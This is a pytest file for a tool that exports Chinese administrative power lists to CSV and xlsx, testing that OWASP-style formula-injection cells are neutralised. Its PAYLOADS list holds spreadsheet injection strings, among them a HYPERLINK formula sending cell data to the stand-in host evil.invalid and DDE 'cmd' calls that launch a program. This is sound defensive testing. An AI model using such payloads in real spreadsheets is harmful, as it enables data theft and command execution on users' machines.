"""Spreadsheet exports never carry a live formula: a hostile sheet goes through `kb import-powers`
and the build, and every CSV and xlsx cell that would start a formula is neutralised (OWASP),
numbers stay numbers, and the workbooks are the same bytes from build to build."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

import kb_tools.text
from kb_tools.powers import import_powers
from kb_tools.powers.export import to_csv, to_xlsx
from kb_tools.powers.model import POWER_FIELDS
from kb_tools.text import FORMULA_STARTS, neutralise_cell
from tests.conftest import BUILDING_LAW, STATUS_DATE, make_config, run_build, write_files

#: What attackers put in spreadsheets (OWASP's CSV injection page and its usual variants).
PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?d="&A1,"点此查看办理指南")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "＝1+1",
    "-1-1",
    "@A1",
]
TEXT_COLUMNS = ["事项名称", "子项", "实施主体", "收费标准及依据", "办理流程", "申请材料", "备注"]
BASIS = "《中华人民共和国建筑法》第七条"


def hostile_sheet(path: Path) -> Path:
    """A workbook as a provincial system exports it, with a payload in every text column.

    The payloads are text cells (what an export holds), not formulas of the source sheet.
    """
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "权力清单"
    sheet.append(["事项编码", *TEXT_COLUMNS, "事项类型", "承办科室", "设定依据", "法定期限", "承诺期限"])
    for n, payload in enumerate(PAYLOADS):
        row = [f"HX-{n:03d}", *[f"{payload}" if i else f"{payload}（{n}）" for i in range(len(TEXT_COLUMNS))],
               "行政许可", "建筑业管理科", f"{BASIS}\n{payload}", 20, "-5"]
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    checks = workbook.create_sheet("检查事项")
    checks.append(["检查事项编码", "检查事项名称", "检查对象", "检查依据", "检查方式", "频次", "承办科室"])
    for n, payload in enumerate(PAYLOADS):
        checks.append([f"JX-{n:03d}", f"{payload}（检查{n}）", payload, BASIS, payload, "-", "建筑业管理科"])
        for cell in checks[checks.max_row]:
            cell.data_type = "s"
    workbook.save(path)
    return path


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile-export")
    write_files(root / "docs", {"index.md": "# 首页\n", "laws/建筑法.md": BUILDING_LAW})
    import_powers(hostile_sheet(root / "省平台导出.xlsx"), root / "docs")
    return run_build(make_config(root, {"search_index": False}))


def csv_rows(site: Path, name: str) -> list[list[str]]:
    data = (site / "powers" / "export" / name).read_bytes()
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def would_run(text: str) -> bool:
    """Whether a spreadsheet would take the text for a formula (what must never be exported)."""
    return bool(text) and (text[0] in "\t\r" or text.lstrip(" \n\u00a0\u3000")[:1] in FORMULA_STARTS)


@pytest.mark.parametrize("name", ["power-items.csv", "inspection-items.csv"])
def test_csv_exports_neutralise_every_formula_cell(hostile_site, name):
    rows = csv_rows(hostile_site, name)
    assert len(rows) == len(PAYLOADS) + 1
    cells = [cell for row in rows for cell in row]
    live = [c for c in cells if would_run(c) and neutralise_cell(c) != c]
    assert live == []
    prefixed = [c for c in cells if c.startswith("'") and c[1:] and would_run(c[1:])]
    assert len(prefixed) >= len(PAYLOADS) * (3 if name.startswith("power") else 2)
    suffix = "（0）" if name.startswith("power") else "（检查0）"
    assert "'" + PAYLOADS[0] + suffix in cells  # the payload is kept, as text
    if name.startswith("power"):
        header = rows[0]
        assert {row[header.index("承诺期限")] for row in rows[1:]} == {"-5"}  # a number keeps its sign
        assert {row[header.index("法定期限")] for row in rows[1:]} == {"20"}


@pytest.mark.parametrize("name", ["power-items.xlsx", "inspection-items.xlsx"])
def test_xlsx_exports_hold_no_formula(hostile_site, name):
    sheet = load_workbook(hostile_site / "powers" / "export" / name).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [str(c.value) for c in cells]
    assert [v for v in values if would_run(v) and neutralise_cell(v) != v] == []
    assert sum(v.startswith("'") for v in values) >= len(PAYLOADS) * 2


def test_xlsx_exports_are_byte_reproducible(hostile_site, tmp_path):
    data = (hostile_site / "powers/export/power-items.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(*dt.date.fromisoformat(STATUS_DATE).timetuple()[:3],
                                                                    0, 0, 0)}
        core = archive.read("docProps/core.xml").decode("utf-8")
    assert f"{STATUS_DATE}T00:00:00Z</dcterms:modified>" in core
    rows = [["A-1", "=1+1", *[""] * (len(POWER_FIELDS) - 2)]]
    first = to_xlsx(POWER_FIELDS, rows, title="权力清单", today=dt.date(2026, 1, 5))
    again = to_xlsx(POWER_FIELDS, rows, title="权力清单", today=dt.date(2026, 1, 5))
    assert first == again
    assert to_xlsx(POWER_FIELDS, rows, title="权力清单", today=dt.date(2026, 1, 6)) != first


def test_numbers_stay_numbers_in_both_formats():
    rows = [["A-1", -5, 2.5, "-5", "+3", "=1+1", *[""] * (len(POWER_FIELDS) - 6)]]
    sheet = load_workbook(io.BytesIO(to_xlsx(POWER_FIELDS, rows, title="表", today=dt.date(2026, 1, 5)))).active
    cells = list(sheet[2])
    assert [(c.value, c.data_type) for c in cells[1:6]] == [
        (-5, "n"), (2.5, "n"), ("-5", "s"), ("+3", "s"), ("'=1+1", "s")]
    line = to_csv(POWER_FIELDS, rows).decode("utf-8-sig").splitlines()[1]
    assert line.startswith("A-1,-5,2.5,-5,+3,'=1+1,")


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1", "' =1"), ("\n@x", "'\n@x"), ("\u3000＝1", "'\u3000＝1"),
    ("＋1+1", "'＋1+1"), ("-1-1", "'-1-1"), ("- 5", "'- 5"),
    ("-5", "-5"), ("+3", "+3"), ("-1.5e3", "-1.5e3"), (".5", ".5"), ("-", "-"), ("－", "－"),
    ("建筑法", "建筑法"), ("a=b", "a=b"), ("", ""), (None, None), (7, 7), (-2.5, -2.5),
    ("建\x00筑法", "建筑法"), ("\x00=1+1", "'=1+1"), ("\x00", ""), ("a\x1fb\tc", "ab\tc"),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_control_characters_typed_in_yaml_never_break_a_workbook():
    """A NUL written as ``"\\0"`` in a data file reaches the export as text: openpyxl would
    refuse the whole workbook, so the cell loses it (and keeps the rest)."""
    rows = [["A-1", "事项\x00名称", "\x00=1+1", *[""] * (len(POWER_FIELDS) - 3)]]
    sheet = load_workbook(io.BytesIO(to_xlsx(POWER_FIELDS, rows, title="表", today=dt.date(2026, 1, 5)))).active
    assert [c.value for c in sheet[2]][1:3] == ["事项名称", "'=1+1"]
    assert "\x00" not in to_csv(POWER_FIELDS, rows).decode("utf-8-sig")


def test_text_module_examples_hold():
    assert doctest.testmod(kb_tools.text).failed == 0


@pytest.mark.browser
def test_in_page_export_neutralises_like_the_build(hostile_site, browser):
    from tests.browser import serve

    with serve(hostile_site) as url:
        page = browser.new_page()
        page.goto(url + "powers/list/")
        page.wait_for_selector("form.kb-pw-ready")
        shown = page.locator("#kb-pw-powers tbody tr:not([hidden])").evaluate_all(
            "rows => rows.map(r => Array.from(r.cells, td => td.textContent.trim()))")
        with page.expect_download() as download:
            page.click('button[data-action="csv"]')
        text = Path(download.value.path()).read_text(encoding="utf-8-sig")
        page.close()
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == len(shown) == len(PAYLOADS)
    assert rows == [[neutralise_cell(cell) for cell in row] for row in shown]  # the browser's rule is ours
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)
